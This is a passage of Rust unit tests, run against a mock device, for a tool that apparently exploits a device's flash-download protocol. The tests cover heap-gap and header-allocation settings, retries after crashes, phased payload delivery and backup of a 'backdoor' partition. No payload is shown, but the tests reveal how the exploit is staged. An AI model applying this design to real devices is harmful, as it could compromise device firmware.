                assert_eq!(*offset as usize, retransmitted.len());
                retransmitted.extend_from_slice(data);
            }
        }
        assert_eq!(ops.last(), Some(&Op::Reset));

        let deflated = DEFLATED_DECLARED_SIZE.to_le_bytes();
        let heads = retransmitted
            .windows(8)
            .filter(|w| &w[..4] == POOL_HEAD_TAG && w[4..] == deflated)
            .count();
        assert_eq!(heads, 2);
        assert!(events.try_iter().any(|e| e == Event::CommitSuppressed));
    }

    #[test]
    fn test_manual_reset_after_timeout() {
        let device = Mock::new();
        device.0.borrow_mut().crashes_left = 1;
        let mut connector = Connector::new(&device);
        connector.arrivals = VecDeque::from(vec![Some(DeviceMode::Flash), None]);
        let (mut controller, events) = setup(config(), connector, MemoryProfileStore::new());

        let report = controller.run(&image(), &mut parts()).unwrap();
        assert_eq!(report.attempts, 2);
        let events: Vec<Event> = events.try_iter().collect();
        let manual = events.iter().position(|e| *e == Event::ManualResetRequired).unwrap();
        let failed = events
            .iter()
            .position(|e| matches!(e, Event::AttemptFailed { number: 1, .. }))
            .unwrap();
        assert!(failed < manual);
    }

    #[test]
    fn test_emergency_device_recovered_with_loader() {
        let device = Mock::new();
        device.0.borrow_mut().crashes_left = 1;
        let mut connector = Connector::new(&device);
        connector.arrivals =
            VecDeque::from(vec![Some(DeviceMode::Flash), Some(DeviceMode::EmergencyDownload)]);
        let config = ExploitConfig::builder()
            .estimated_gap_size(0x2000)
            .header_allocation_size(0x4000)
            .emergency_loader(vec![0xde, 0xad])
            .build();
        let (mut controller, _events) = setup(config, connector, MemoryProfileStore::new());

        controller.run(&image(), &mut parts()).unwrap();
        assert!(device.ops().contains(&Op::Loader));
    }

    #[test]
    fn test_unexpected_mode_is_fatal() {
        let device = Mock::new();
        device.0.borrow_mut().crashes_left = 1;
        let mut connector = Connector::new(&device);
        connector.arrivals =
            VecDeque::from(vec![Some(DeviceMode::Flash), Some(DeviceMode::MassStorage)]);
        let (mut controller, _events) = setup(config(), connector, MemoryProfileStore::new());

        assert!(matches!(
            controller.run(&image(), &mut parts()),
            Err(Error::UnexpectedMode {
                observed: DeviceMode::MassStorage,
                expected: DeviceMode::Flash
            })
        ));
    }

    #[test]
    fn test_prelude_requested_on_device() {
        let device = Mock::new();
        device.0.borrow_mut().crashes_left = 1;
        let config = ExploitConfig::builder()
            .estimated_gap_size(0x2000)
            .header_allocation_size(0x4000)
            .experimental(true)
            .build();
        let (mut controller, _events) =
            setup(config, Connector::new(&device), MemoryProfileStore::new());
        let report = controller.run(&image(), &mut parts()).unwrap();
        assert!(report.parameters.allocate_backup_buffers_first);

        let ops = device.ops();
        let backup = ops
            .iter()
            .position(|op| *op == Op::Backup("BACKUP_BS_NV".into()))
            .unwrap();
        let header = ops.iter().rposition(|op| *op == Op::HeaderV1).unwrap();
        assert!(backup < header);
    }

    #[test]
    fn test_missing_protocol_support() {
        let device = Mock::new();
        device.0.borrow_mut().supported = protocol::HEADER_V1;
        let (mut controller, _events) =
            setup(config(), Connector::new(&device), MemoryProfileStore::new());
        assert!(matches!(
            controller.run(&image(), &mut parts()),
            Err(Error::UnsupportedDevice(_))
        ));
        assert!(device.ops().is_empty());
    }

    #[test]
    fn test_input_rejected_before_device_io() {
        let device = Mock::new();
        let (mut controller, _events) = setup(
            ExploitConfig::builder().chunk_size(0x20000).build(),
            Connector::new(&device),
            MemoryProfileStore::new(),
        );
        assert!(matches!(
            controller.run(&image(), &mut parts()),
            Err(Error::Input(InputError::ChunkSizeMismatch { .. }))
        ));

        let (mut controller, _events) =

            setup(config(), Connector::new(&device), MemoryProfileStore::new());
        assert!(matches!(
            controller.run(&image(), &mut []),
            Err(Error::Input(InputError::NoWrites))
        ));
        assert!(device.ops().is_empty());
    }

    #[test]
    fn test_device_stuck_after_reset_needs_power_cycle() {
        let device = Mock::new();
        device.0.borrow_mut().rejections_left = 1;
        let mut connector = Connector::new(&device);
        connector.removals = VecDeque::from(vec![false]);
        let (mut controller, events) = setup(config(), connector, MemoryProfileStore::new());

        let report = controller.run(&image(), &mut parts()).unwrap();
        assert_eq!(report.attempts, 2);

        let ops = device.ops();
        let reset = ops.iter().position(|op| *op == Op::Reset).unwrap();
        let bounded = Op::Removal(Some(config().reconnect_timeout));
        assert_eq!(ops[reset + 1], bounded);
        assert_eq!(ops[reset + 2], Op::Removal(None));
        let second_header = ops.iter().rposition(|op| *op == Op::HeaderV1).unwrap();
        assert!(reset + 2 < second_header);

        let events: Vec<Event> = events.try_iter().collect();
        let failed = events
            .iter()
            .position(|e| matches!(e, Event::AttemptFailed { number: 1, .. }))
            .unwrap();
        let manual = events
            .iter()
            .position(|e| *e == Event::ManualResetRequired)
            .unwrap();
        assert!(failed < manual);
    }

    #[test]
    fn test_phases_renegotiate_the_exploit_header() {
        let device = Mock::new();
        let config = ExploitConfig::builder()
            .estimated_gap_size(0x2000)
            .header_allocation_size(0x1200)
            .disable_dedup(true)
            .build();
        let (mut controller, events) =
            setup(config, Connector::new(&device), MemoryProfileStore::new());

        let report = controller.run(&image(), &mut distinct_chunks(40)).unwrap();
        assert_eq!(report.attempts, 1);
        assert_eq!(report.payloads, 40);
        assert_eq!(report.phases, 3);

        let ops = device.ops();
        let starts: Vec<usize> = ops
            .iter()
            .enumerate()
            .filter(|(_, op)| matches!(op, Op::HeaderV2 { offset: 0, .. }))
            .map(|(position, _)| position)
            .collect();
        assert_eq!(starts.len(), 3);
        assert_eq!(ops.iter().filter(|op| **op == Op::HeaderV1).count(), 1);
        let signed = ops.iter().position(|op| *op == Op::HeaderV1).unwrap();
        assert!(signed < starts[0]);

        // Each phase opens with its header, then the partition table.
        let transfers = payload_transfers(&ops);
        let tables: Vec<usize> = transfers
            .iter()
            .filter(|(_, data)| starts_with_partition_table(data))
            .map(|(position, _)| *position)
            .collect();
        assert_eq!(tables.len(), 3);
        for phase in 0..3 {
            assert!(starts[phase] < tables[phase]);
            if let Some(&next) = starts.get(phase + 1) {
                assert!(tables[phase] < next);
            }
            let first_payload = transfers
                .iter()
                .find(|(position, _)| *position > starts[phase])
                .unwrap();
            assert_eq!(first_payload.0, tables[phase]);
        }

        let mut delivered = vec![0usize; 40];
        for (_, data) in &transfers {
            for chunk in data.chunks(CHUNK as usize) {
                let fill = chunk[0];
                if (1..=40).contains(&fill) && chunk.iter().all(|&b| b == fill) {
                    delivered[fill as usize - 1] += 1;
                }
            }
        }
        assert!(delivered.iter().all(|&count| count == 1), "{:?}", delivered);

        let events: Vec<Event> = events.try_iter().collect();
        let phases: Vec<usize> = events
            .iter()
            .filter_map(|e| match e {
                Event::Phase { index, count: 3 } => Some(*index),
                _ => None,
            })
            .collect();
        assert_eq!(phases, vec![0, 1, 2]);
        assert!(events.contains(&Event::PayloadsSent { done: 40, total: 40 }));
    }

    #[test]
    fn test_failure_in_a_later_phase_is_not_retried() {
        let device = Mock::new();
        // Phase one takes four bulk transfers.
        device.0.borrow_mut().failing_payload = Some(4);
        let config = ExploitConfig::builder()
            .estimated_gap_size(0x2000)
            .header_allocation_size(0x1200)
            .disable_dedup(true)
            .build();
        let (mut controller, events) =
            setup(config, Connector::new(&device), MemoryProfileStore::new());

        assert!(matches!(
            controller.run(&image(), &mut distinct_chunks(40)),
            Err(Error::Protocol { status: 0x1008, .. })
        ));
        assert!(controller.profiles().is_empty());

        let ops = device.ops();
        assert_eq!(ops.iter().filter(|op| **op == Op::HeaderV1).count(), 1);
        let starts = ops
            .iter()
            .filter(|op| matches!(op, Op::HeaderV2 { offset: 0, .. }))
            .count();
        assert_eq!(starts, 2);
        assert!(!ops.iter().any(|op| matches!(op, Op::Reset | Op::Removal(_))));

        let events: Vec<Event> = events.try_iter().collect();
        assert_eq!(
            events.iter().filter(|e| matches!(e, Event::Attempt { .. })).count(),
            1
        );
        assert!(!events.iter().any(|e| matches!(e, Event::AttemptFailed { .. })));
        assert_eq!(events.last(), Some(&Event::State(AttemptState::FatalAbort)));
    }

    #[test]
    fn test_single_transfers_without_bulk_support() {
        let device = Mock::new();
        device.0.borrow_mut().supported = protocol::HEADER_V1 | protocol::HEADER_V2;
        let (mut controller, events) =
            setup(config(), Connector::new(&device), MemoryProfileStore::new());

        let report = controller.run(&image(), &mut parts()).unwrap();
        assert_eq!(report.payloads, 2);

        let ops = device.ops();
        assert!(!ops.iter().any(|op| matches!(op, Op::PayloadV2(_))));
        let transfers = payload_transfers(&ops);
        assert_eq!(transfers.len(), 3);
        assert!(starts_with_partition_table(&transfers[0].1));
        assert_eq!(transfers[0].1.len(), CHUNK as usize);
        assert_eq!(transfers[1].1, vec![0x22; CHUNK as usize]);
        assert_eq!(transfers[2].1, vec![0x11; CHUNK as usize]);
        assert!(events.try_iter().any(|e| e == Event::PayloadsSent { done: 2, total: 2 }));
    }

    #[test]
    fn test_unusable_backup_partition_is_not_modeled() {
        for (first_lba, last_lba) in [(0x200, 0x100), (0x200, 0x200 + 0x80_0000)] {
            let mut gpt = Gpt::parse(&sample_chunk(CHUNK as usize)).unwrap();
            let backup = gpt.get_mut(crate::gpt::BACKDOOR_PARTITION).unwrap();
            backup.first_lba = first_lba;
            backup.last_lba = last_lba;

            let device = Mock::new();
            device.0.borrow_mut().partition_table = Some(gpt.rebuild());
            device.0.borrow_mut().crashes_left = 1;
            let config = ExploitConfig::builder()
                .estimated_gap_size(0x2000)
                .header_allocation_size(0x4000)
                .experimental(true)
                .build();
            let (mut controller, _events) =
                setup(config, Connector::new(&device), MemoryProfileStore::new());

            // The second candidate backs the partition up first.
            let report = controller.run(&image(), &mut parts()).unwrap();
            assert_eq!(report.attempts, 2);
            assert!(report.parameters.allocate_backup_buffers_first);
            assert!(device.ops().contains(&Op::Backup("BACKUP_BS_NV".into())));
        }
    }
}
